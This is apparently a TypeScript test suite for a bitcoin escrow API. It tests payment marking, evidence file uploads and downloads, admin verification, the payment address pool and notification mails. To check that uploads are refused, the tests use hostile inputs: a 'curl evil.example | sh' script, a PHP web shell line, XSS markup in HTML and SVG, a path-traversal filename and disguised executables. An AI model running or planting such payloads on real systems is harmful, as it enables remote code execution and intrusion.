import { createHash } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { bearer, form, json, multipart, signedInUser } from '../../../testing/accounts.ts';
import { freshAddress } from '../../../testing/bitcoin.ts';
import { openMarket } from '../../../testing/market.ts';
import { openTestApp, type TestApp } from '../../../testing/test-app.ts';

let t: TestApp;
beforeAll(async () => {
  t = await openTestApp({ MAX_UNPAID_ESCROWS: '100' }); // one buyer drains the pool below on purpose
});
beforeEach(async () => t.database.reset());
afterAll(async () => t.close());

type Escrow = Record<string, unknown> & { id: string; status: string };
const POOL = [
  'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4',
  '1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2',
  '3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy',
];
const detail = async (res: Response) => ((await res.json()) as { detail: string }).detail;
/** The 8-byte PNG signature and an IHDR chunk header: enough for a sniffer to call it a PNG. */
const PNG = Uint8Array.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0,
  0, 0, 0x90, 0x77, 0x53, 0xde,
]);
const png = (name = 'receipt.png') => new File([PNG], name, { type: 'image/png' });

const market = (pool = POOL.slice(0, 1)) => openMarket(t, pool);
async function open(token: string, overrides: Record<string, unknown> = {}) {
  const res = await t.app.request(
    '/api/escrows',
    json(
      {
        product_service: 'Camera',
        description: 'Mirrorless',
        amount_usd: '1000.00',
        seller_email: 'sam@example.com',
        ...overrides,
      },
      token,
    ),
  );
  expect(res.status).toBe(201);
  return (await res.json()) as Escrow;
}
const mailsTo = (to: string) =>
  t.database.db
    .selectFrom('mail_outbox')
    .select(['subject', 'body'])
    .where('to_address', '=', to)
    .orderBy('id')
    .execute();
const eventCount = async (type: string) =>
  (await t.database.db.selectFrom('events').select('type').where('type', '=', type).execute()).length;

describe('POST /api/escrows/{id}/mark-paid', () => {
  it('records the mark with its file; admins see it with the evidence and are mailed', async () => {
    const { admin, buyer } = await market();
    const { id } = await open(buyer.token);
    const res = await t.app.request(
      `/api/escrows/${id}/mark-paid`,
      multipart({ notes: 'Sent from my wallet', file: png('../../etc/receipt.png') }, buyer.token),
    );
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ status: 'pending_payment', payment_marked_at: expect.any(String) });

    const queue = (await (
      await t.app.request('/api/admin/pending-verifications', bearer(admin.token))
    ).json()) as Array<{ escrow: Escrow; notes: string; evidence: Array<Record<string, unknown>> }>;
    expect(queue).toHaveLength(1);
    expect(queue[0]).toMatchObject({ escrow: { id }, notes: 'Sent from my wallet' });
    expect(queue[0]!.evidence).toEqual([
      expect.objectContaining({
        filename: 'receipt.png',
        content_type: 'image/png',
        size_bytes: PNG.byteLength,
        sha256: createHash('sha256').update(PNG).digest('hex'),
      }),
    ]);
    const adminMail = (await mailsTo('root@example.com')).find((m) => m.subject.startsWith('Payment marked'));
    expect(adminMail!.subject).toBe(`Payment marked: escrow ${id.slice(0, 8)}`);
    expect(adminMail!.body).toContain('0.02030000 BTC to bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4');
  });

  it('serves the file to admins and parties only, as a download that is never sniffed', async () => {
    const { admin, buyer, seller } = await market();
    const { id } = await open(buyer.token);
    await t.app.request(`/api/escrows/${id}/mark-paid`, multipart({ notes: 'sent', file: png() }, buyer.token));
    const [file] = await t.database.db.selectFrom('payment_evidence').select('evidence_id').execute();
    const url = `/api/evidence/${file!.evidence_id}`;
    for (const who of [admin, buyer, seller]) {
      const res = await t.app.request(url, bearer(who.token));
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('image/png');
      expect(res.headers.get('content-disposition')).toBe('attachment; filename="receipt.png"');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(new Uint8Array(await res.arrayBuffer())).toEqual(PNG);
    }
    const stranger = await signedInUser(t, 'zoe');
    expect((await t.app.request(url, bearer(stranger.token))).status).toBe(404);
    expect((await t.app.request(url)).status).toBe(401);
  });

  it('takes a mark without a file, and plain text as text', async () => {
    const { admin, buyer } = await market();
    const { id } = await open(buyer.token);
    expect((await t.app.request(`/api/escrows/${id}/mark-paid`, form({ notes: 'no file' }, buyer.token))).status).toBe(
      200,
    );
    await t.app.request(
      `/api/admin/escrows/${id}/verify-payment`,
      form({ verified: 'false', notes: 'not seen' }, admin.token),
    );
    // A pasted mail is text, angle-bracketed addresses and all.
    const text = new File(['From: Ann <ann@example.com>\ntxid 4a5e1e4b, sent 0.0203 BTC if 2 < 3\n'], 'note.txt', {
      type: 'text/plain',
    });
    expect(
      (await t.app.request(`/api/escrows/${id}/mark-paid`, multipart({ notes: 'again', file: text }, buyer.token)))
        .status,
    ).toBe(200);
    const files = await t.database.db.selectFrom('payment_evidence').select(['filename', 'content_type']).execute();
    expect(files).toEqual([{ filename: 'note.txt', content_type: 'text/plain' }]);
  });

  it('takes a file that declares no type and has no extension, by its bytes', async () => {
    const { buyer } = await market();
    const { id } = await open(buyer.token);
    const res = await t.app.request(
      `/api/escrows/${id}/mark-paid`,
      multipart({ notes: 'sent', file: new File([PNG], 'receipt', { type: '' }) }, buyer.token),
    );
    expect(res.status).toBe(200);
    const files = await t.database.db.selectFrom('payment_evidence').select(['filename', 'content_type']).execute();
    expect(files).toEqual([{ filename: 'receipt.png', content_type: 'image/png' }]);
  });

  it.each([
    [
      'an executable named .png',
      new File([Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(56).fill(0)])], 'photo.png', {
        type: 'image/png',
      }),
      415,
      'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is application/x-elf; sent as image/png named *.png)',
    ],
    [
      'a ZIP named .pdf',
      new File([Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0, 8, 0, ...new Array(40).fill(0)])], 'scan.pdf', {
        type: 'application/pdf',
      }),
      415,
      'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is application/zip; sent as application/pdf named *.pdf)',
    ],
    [
      'binary noise',
      new File([Uint8Array.from([0, 1, 2, 3, 0xff, 0xfe, 0, 0])], 'x.txt', { type: 'text/plain' }),
      415,
      'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is not one of these; sent as text/plain named *.txt)',
    ],
    [
      'an HTML page named .png',
      new File(['<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'], 'proof.png', {
        type: 'image/png',
      }),
      415,
      'file holds HTML, SVG, XML or a script, which is never accepted (sent as image/png named *.png)',
    ],
    [
      'HTML further down a text file',
      new File([`${'receipt line\n'.repeat(50)}<a href="https://evil.example">pay here</a>`], 'notes.txt', {
        type: 'text/plain',
      }),
      415,
      'file holds HTML, SVG, XML or a script, which is never accepted (sent as text/plain named *.txt)',
    ],
    [
      'an SVG sent as text',
      new File(['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'], 'chart.txt', { type: 'text/plain' }),
      415,
      'file holds HTML, SVG, XML or a script, which is never accepted (sent as text/plain named *.txt)',
    ],
    [
      'XML sent as text',
      new File(['<?xml version="1.0"?><receipt/>'], 'data.txt', { type: 'text/plain' }),
      415,
      'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is application/xml; sent as text/plain named *.txt)',
    ],
    [
      'a PHP page sent as text',
      new File(['hello <?php system($_GET["c"]); ?>'], 'note.txt', { type: 'text/plain' }),
      415,
      'file holds HTML, SVG, XML or a script, which is never accepted (sent as text/plain named *.txt)',
    ],
    [
      'a script sent as text',
      new File(['#!/bin/sh\ncurl evil.example | sh\n'], 'run.txt', { type: 'text/plain' }),
      415,
      'file holds HTML, SVG, XML or a script, which is never accepted (sent as text/plain named *.txt)',
    ],
    [
      'a PNG declared as JPEG',
      new File([PNG], 'receipt.png', { type: 'image/jpeg' }),
      415,
      'file content is image/png but it was sent as image/jpeg named *.png; the type and the extension must match the content',
    ],
    [
      'a PNG named .pdf',
      new File([PNG], 'receipt.pdf', { type: 'image/png' }),
      415,
      'file content is image/png but it was sent as image/png named *.pdf; the type and the extension must match the content',
    ],
    [
      'text declared as a PDF',
      new File(['txid 4a5e1e4b\n'], 'note.pdf', { type: 'application/pdf' }),
      415,
      'file content is text/plain but it was sent as application/pdf named *.pdf; the type and the extension must match the content',
    ],
    ['an empty file', new File([], 'empty.png', { type: 'image/png' }), 422, 'file is empty'],
    [
      'a file just over 10 MB',
      new File([PNG, new Uint8Array(10 * 1024 * 1024 - PNG.byteLength + 1)], 'big.png', { type: 'image/png' }),
      413,
      'file must be at most 10 MB',
    ],
  ])('refuses %s and stores nothing', async (_name, file, status, message) => {
    const { buyer } = await market();
    const { id } = await open(buyer.token);
    const res = await t.app.request(`/api/escrows/${id}/mark-paid`, multipart({ notes: 'sent', file }, buyer.token));
    expect([res.status, await detail(res)]).toEqual([status, message]);
    expect(await eventCount('PaymentMarked')).toBe(0);
    expect(await t.database.db.selectFrom('evidence_files').select('evidence_id').execute()).toEqual([]);
  });

  it('cuts off a body over the limit while it streams, before reading it all', async () => {
    const { buyer } = await market();
    const { id } = await open(buyer.token);
    const chunk = new Uint8Array(1024 * 1024);
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= 40 * chunk.byteLength) return controller.close();
        sent += chunk.byteLength;
        controller.enqueue(chunk);
      },
    });
    const res = await t.app.request(
      new Request(`http://localhost/api/escrows/${id}/mark-paid`, {
        method: 'POST',
        body,
        duplex: 'half',
        headers: { authorization: `Bearer ${buyer.token}`, 'content-type': 'multipart/form-data; boundary=x' },
      } as RequestInit),
    );
    expect([res.status, await detail(res)]).toEqual([413, 'Request body is too large']);
    expect(sent).toBeLessThan(40 * chunk.byteLength);
    expect(await eventCount('PaymentMarked')).toBe(0);
  });

  it('is for the buyer, once, after an address is assigned', async () => {
    const { buyer, seller } = await market([]);
    const { id } = await open(buyer.token);
    const noAddress = await t.app.request(`/api/escrows/${id}/mark-paid`, form({ notes: 'sent' }, buyer.token));
    expect([noAddress.status, await detail(noAddress)]).toEqual([
      409,
      'No payment address is assigned yet; request one first',
    ]);
    const bySeller = await t.app.request(`/api/escrows/${id}/mark-paid`, form({ notes: 'sent' }, seller.token));
    expect([bySeller.status, await detail(bySeller)]).toEqual([403, 'Only the buyer can mark as paid this escrow']);
    const longNotes = await t.app.request(
      `/api/escrows/${id}/mark-paid`,
      form({ notes: 'x'.repeat(5001) }, buyer.token),
    );
    expect([longNotes.status, await detail(longNotes)]).toEqual([422, 'notes must be at most 5000 characters']);
  });

  it('refuses a second mark while the first is being checked', async () => {
    const { buyer } = await market();
    const { id } = await open(buyer.token);
    await t.app.request(`/api/escrows/${id}/mark-paid`, form({ notes: 'sent' }, buyer.token));
    const again = await t.app.request(`/api/escrows/${id}/mark-paid`, form({ notes: 'sent' }, buyer.token));
    expect([again.status, await detail(again)]).toEqual([
      409,
      'The payment is already marked as sent; an admin is checking it',
    ]);
  });
});

describe('GET /api/admin/pending-verifications', () => {
  it('is for admins, and empties once the payment is verified', async () => {
    const { admin, buyer } = await market();
    expect((await t.app.request('/api/admin/pending-verifications', bearer(buyer.token))).status).toBe(403);
    expect((await t.app.request('/api/admin/pending-verifications')).status).toBe(401);
    const { id } = await open(buyer.token);
    await t.app.request(`/api/escrows/${id}/mark-paid`, form({ notes: 'sent' }, buyer.token));
    await t.app.request(
      `/api/admin/escrows/${id}/verify-payment`,
      form({ verified: 'true', notes: 'seen' }, admin.token),
    );
    expect(await (await t.app.request('/api/admin/pending-verifications', bearer(admin.token))).json()).toEqual([]);
  });
});

describe('POST /api/admin/escrows/{id}/assign-address', () => {
  it('gives a waiting escrow the chosen address, once', async () => {
    const { admin, seller } = await market([]);
    const { id } = await open(seller.token, { seller_email: undefined, buyer_email: 'ann@example.com' });
    expect((await t.app.request('/api/admin/addresses', form({ address_string: POOL[1]! }, admin.token))).status).toBe(
      201,
    );
    const [address] = await t.database.db.selectFrom('addresses').select('id').execute();
    expect(
      (await t.app.request(`/api/admin/escrows/${id}/assign-address`, form({ address_id: address!.id }, seller.token)))
        .status,
    ).toBe(403);
    const res = await t.app.request(
      `/api/admin/escrows/${id}/assign-address`,
      form({ address_id: address!.id }, admin.token),
    );
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ assigned_address: POOL[1] });
    const again = await t.app.request(
      `/api/admin/escrows/${id}/assign-address`,
      form({ address_id: address!.id }, admin.token),
    );
    expect([again.status, await detail(again)]).toEqual([409, 'This address is assigned; choose an available one']);
    const unknown = await t.app.request(
      `/api/admin/escrows/${id}/assign-address`,
      form({ address_id: '00000000-0000-4000-8000-000000000000' }, admin.token),
    );
    expect([unknown.status, await detail(unknown)]).toEqual([404, 'Address not found']);
    const bad = await t.app.request(
      `/api/admin/escrows/${id}/assign-address`,
      form({ address_id: 'seven' }, admin.token),
    );
    expect([bad.status, await detail(bad)]).toEqual([422, 'address_id must be an address id']);
  });
});

describe('the address pool', () => {
  it('gets the address back when an unpaid escrow is cancelled', async () => {
    const { buyer } = await market();
    const { id, assigned_address } = await open(buyer.token);
    expect(assigned_address).toBe(POOL[0]);
    expect((await t.app.request(`/api/escrows/${id}/cancel`, bearer(buyer.token, 'POST'))).status).toBe(200);
    expect(await t.database.db.selectFrom('addresses').select('status').executeTakeFirstOrThrow()).toEqual({
      status: 'available',
    });
    const [cancelled] = await mailsTo('sam@example.com').then((m) =>
      m.filter((x) => x.subject.startsWith('Escrow cancelled')),
    );
    expect(cancelled!.body).toContain('Do not send money');
  });

  it('mails the admins once when fewer than three are free, and again after it was topped up (at most once an hour)', async () => {
    const { admin, buyer } = await market(POOL);
    // Filling the pool one by one was itself "low" until the third: that mail is not what this looks at.
    await t.database.db.deleteFrom('mail_outbox').execute();
    await t.database.db.deleteFrom('notices').where('name', '=', 'address_pool_low_mailed').execute(); // as if it was over an hour ago
    const poolMails = async () =>
      (await mailsTo('root@example.com')).filter((m) => m.subject.startsWith('Payment address pool is low'));
    await open(buyer.token);
    expect((await poolMails()).map((m) => m.subject)).toEqual(['Payment address pool is low: 2 left']);
    await open(buyer.token);
    expect(await poolMails()).toHaveLength(1);
    for (const address of ['bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq', '1CounterpartyXXXXXXXXXXXXXXXUWLpVr']) {
      expect((await t.app.request('/api/admin/addresses', form({ address_string: address }, admin.token))).status).toBe(
        201,
      );
    }
    await open(buyer.token);
    // Within the hour of the first alert, the second shortage is not mailed again...
    expect(await poolMails()).toHaveLength(1);
    // ...once the hour has passed, it is.
    await t.database.db
      .updateTable('notices')
      .set({ raised_at: new Date(Date.now() - 61 * 60_000) })
      .where('name', '=', 'address_pool_low_mailed')
      .execute();
    expect(
      (await t.app.request('/api/admin/addresses', form({ address_string: freshAddress() }, admin.token))).status,
    ).toBe(201);
    await open(buyer.token);
    expect((await poolMails()).map((m) => m.subject)).toEqual([
      'Payment address pool is low: 2 left',
      'Payment address pool is low: 2 left',
    ]);
  });
});

describe('notification mails', () => {
  it('tells both parties when the escrow is funded and released, and the buyer when a mark is rejected', async () => {
    const { admin, buyer, seller } = await market();
    const { id } = await open(buyer.token);
    await t.app.request(`/api/escrows/${id}/mark-paid`, form({ notes: 'sent' }, buyer.token));
    await t.app.request(
      `/api/admin/escrows/${id}/verify-payment`,
      form({ verified: 'false', notes: 'Nothing on chain yet' }, admin.token),
    );
    await t.app.request(`/api/escrows/${id}/mark-paid`, form({ notes: 'sent again' }, buyer.token));
    await t.app.request(
      `/api/admin/escrows/${id}/verify-payment`,
      form({ verified: 'true', notes: 'seen' }, admin.token),
    );
    await t.app.request(`/api/escrows/${id}/payout-address`, json({ address: POOL[1] }, seller.token));
    await t.app.request(`/api/admin/escrows/${id}/release`, form({ notes: 'done', txid: 'b'.repeat(64) }, admin.token));
    const buyerMails = (await mailsTo('ann@example.com')).map((m) => m.subject);
    const sellerMails = (await mailsTo('sam@example.com')).map((m) => m.subject);
    const ref = `escrow ${id.slice(0, 8)}`;
    expect(buyerMails).toEqual(
      expect.arrayContaining([`Payment not confirmed: ${ref}`, `Escrow funded: ${ref}`, `Escrow released: ${ref}`]),
    );
    expect(sellerMails).toEqual(expect.arrayContaining([`Escrow funded: ${ref}`, `Escrow released: ${ref}`]));
    expect(sellerMails).not.toContain(`Payment not confirmed: ${ref}`);
    const released = (await mailsTo('sam@example.com')).find((m) => m.subject === `Escrow released: ${ref}`)!;
    expect(released.body).toContain(`0.02000000 BTC was released to the seller's payout address ${POOL[1]}`);
    expect(released.body).toContain(`Transaction: ${'b'.repeat(64)}`);
    expect(released.body).toContain(`/escrow/${id}`);
    const funded = (await mailsTo('sam@example.com')).find((m) => m.subject === `Escrow funded: ${ref}`)!;
    expect(funded.body).toContain('Deliver now');
  });
});

describe('evidence items, as the spec names them (id, notes, file_path) beside the file facts', () => {
  it('are listed alike in the verification queue, on the escrow page and in disputes', async () => {
    const { admin, buyer, seller } = await market();
    const { id } = await open(buyer.token);
    await t.app.request(
      `/api/escrows/${id}/mark-paid`,
      multipart({ notes: 'first try', file: png('first.png') }, buyer.token),
    );
    await t.app.request(
      `/api/admin/escrows/${id}/verify-payment`,
      form({ verified: 'false', notes: 'not seen' }, admin.token),
    );
    await t.app.request(
      `/api/escrows/${id}/mark-paid`,
      multipart({ notes: 'second try', file: png('second.png') }, buyer.token),
    );
    const files = await t.database.db.selectFrom('payment_evidence').select(['evidence_id', 'filename']).execute();
    const idOf = (name: string) => files.find((f) => f.filename === name)!.evidence_id;
    const item = (name: string, notes: string, mark_status: string) => ({
      id: idOf(name),
      notes,
      file_path: `/api/evidence/${idOf(name)}`,
      evidence_id: idOf(name),
      filename: name,
      content_type: 'image/png',
      size_bytes: PNG.byteLength,
      sha256: createHash('sha256').update(PNG).digest('hex'),
      url: `/api/evidence/${idOf(name)}`,
      marked_at: expect.any(String),
      mark_status,
    });

    const queue = (await (
      await t.app.request('/api/admin/pending-verifications', bearer(admin.token))
    ).json()) as Array<{ evidence: unknown[] }>;
    expect(queue[0]!.evidence).toEqual([item('second.png', 'second try', 'pending')]);

    for (const who of [buyer, seller, admin]) {
      const page = (await (await t.app.request(`/api/escrows/${id}`, bearer(who.token))).json()) as {
        evidence: unknown[];
      };
      expect(page.evidence).toEqual([
        item('first.png', 'first try', 'rejected'),
        item('second.png', 'second try', 'pending'),
      ]);
    }
    // Each file_path serves its file to a party.
    const served = await t.app.request(`/api/evidence/${idOf('first.png')}`, bearer(seller.token));
    expect(served.status).toBe(200);

    await t.app.request(`/api/escrows/${id}/open-dispute`, json({ reason: 'No word from the seller' }, buyer.token));
    const disputes = (await (await t.app.request('/api/admin/disputes', bearer(admin.token))).json()) as Array<{
      escrow_id: string;
      evidence: unknown[];
    }>;
    expect(disputes.find((d) => d.escrow_id === id)!.evidence).toEqual([
      item('first.png', 'first try', 'rejected'),
      item('second.png', 'second try', 'pending'),
    ]);
  });

  it('an escrow without a mark lists none', async () => {
    const { buyer } = await market();
    const { id } = await open(buyer.token);
    expect(
      ((await (await t.app.request(`/api/escrows/${id}`, bearer(buyer.token))).json()) as { evidence: unknown[] })
        .evidence,
    ).toEqual([]);
  });
});
